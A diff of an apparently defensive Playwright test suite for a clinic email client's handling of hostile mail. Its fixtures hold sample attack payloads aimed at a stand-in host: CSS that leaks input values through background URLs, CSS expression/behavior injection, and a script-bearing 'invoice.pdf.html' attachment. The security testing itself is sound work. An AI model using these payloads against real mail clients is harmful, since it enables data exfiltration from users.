@@ -1,21 +1,13 @@
-import { expect, test, type Frame, type Page, type Request } from '@playwright/test';
-import { ownerConnection } from '../support/environment.ts';
-import {
-  addConversation,
-  addMailbox,
-  attach,
-  type GivenFile,
-  type GivenMail,
-} from '../support/mail-clinic.ts';
+import { expect, test, type Frame, type Page } from '@playwright/test';
+import { addMailbox, bringMail, type GivenMail } from '../support/brought-mail.ts';
 import { createClinic, createSuperAdmin } from '../support/people.ts';
 import { SignInPage } from './pages/sign-in-page.ts';
+import { watch } from './pages/watched-page.ts';
 
 /** Mails that mean harm, in a real browser: nothing of them runs, loads, navigates or reads anything. */
 
-const sql = ownerConnection();
-test.afterAll(() => sql.end());
 const { clinic, owner } = await createClinic(await createSuperAdmin());
-const mailbox = await addMailbox(sql, clinic.id);
+const mailbox = await addMailbox(clinic.id);
 
 const EVIL = 'evil.example';
 const PNG = Buffer.from(
@@ -59,29 +51,8 @@ input[value^="a"]{background:url(https://${EVIL}/leak)}</style>
 <p style="width:expression(${MARK.replaceAll('"', '')});behavior:url(https://${EVIL}/x.htc)">end</p>
 </body></html>`;
 
-/** Everything the page asked of other servers than the app and the project. */
-function watch(page: Page): { foreign: string[]; dialogs: string[] } {
-  const own = [process.env.APP_URL, process.env.SUPABASE_URL].map((url) => new URL(url ?? '').host);
-  const seen = { foreign: [] as string[], dialogs: [] as string[] };
-  page.on('request', (request: Request) => {
-    const url = new URL(request.url());
-    if (/^https?:$/.test(url.protocol) && !own.includes(url.host)) seen.foreign.push(request.url());
-  });
-  page.on('dialog', (dialog) => {
-    seen.dialogs.push(dialog.message());
-    void dialog.dismiss();
-  });
-  return seen;
-}
-
-async function open(page: Page, mail: GivenMail, files: GivenFile[] = []): Promise<void> {
-  const { conversationId, messageIds } = await addConversation(sql, {
-    tenantId: clinic.id,
-    mailbox,
-    mails: [mail],
-  });
-  for (const [at, file] of files.entries())
-    await attach(sql, { tenantId: clinic.id, messageId: messageIds[0] ?? '', part: String(at + 2), file });
+async function open(page: Page, mail: GivenMail): Promise<void> {
+  const { conversationId } = await bringMail(mailbox, mail);
   await page.goto(`/${clinic.slug}/inbox/${conversationId}`);
 }
 
@@ -114,7 +85,7 @@ test('nothing of a hostile mail runs, loads, navigates or reads before anybody a
   await page.waitForTimeout(1_000);
   const address = page.url();
 
-  expect(seen).toEqual({ foreign: [], dialogs: [] });
+  expect(seen).toMatchObject({ foreign: [], dialogs: [] });
   expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
   expect(page.url()).toBe(address);
   expect(await page.title()).not.toContain('hacked');
@@ -262,14 +233,13 @@ test('links open elsewhere, without power over the app, and say where they lead'
 });
 
 test('pictures of the mail itself are shown from what is stored, others are left out', async ({ page }) => {
-  await open(
-    page,
-    { html: '<p>Look: <img src="cid:Photo@x" alt="tooth"> <img src="cid:drawing@x" alt="drawing"></p>' },
-    [
-      { name: 'tooth.png', contentType: 'image/png', content: PNG, contentId: 'photo@x' },
-      { name: 'drawing.svg', contentType: 'image/svg+xml', contentId: 'drawing@x' },
+  await open(page, {
+    html: '<p>Look: <img src="cid:Photo@x" alt="tooth"> <img src="cid:drawing@x" alt="drawing"></p>',
+    files: [
+      { name: 'tooth.png', type: 'image/png', content: PNG, contentId: 'photo@x' },
+      { name: 'drawing.svg', type: 'image/svg+xml', content: Buffer.from('<svg/>'), contentId: 'drawing@x' },
     ],
-  );
+  });
   const picture = mailFrame(page).getByAltText('tooth');
   await expect(picture).toHaveAttribute('src', /^blob:/);
   await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1);
@@ -277,10 +247,13 @@ test('pictures of the mail itself are shown from what is stored, others are left
 });
 
 test('an attachment that may do harm is only downloaded, after a warning', async ({ page }) => {
-  await open(page, { html: null, text: 'See the invoice.' }, [
-    { name: 'invoice.pdf.html', contentType: 'text/html', content: Buffer.from(`<script>${MARK}</script>`) },
-    { name: 'photo.png', contentType: 'image/png', content: PNG },
-  ]);
+  await open(page, {
+    text: 'See the invoice.',
+    files: [
+      { name: 'invoice.pdf.html', type: 'text/html', content: Buffer.from(`<script>${MARK}</script>`) },
+      { name: 'photo.png', type: 'image/png', content: PNG },
+    ],
+  });
   await page.getByRole('button', { name: 'invoice.pdf.html', exact: true }).click();
   await expect(page.getByRole('alertdialog')).toContainText('may be harmful');
   const [saved] = await Promise.all([
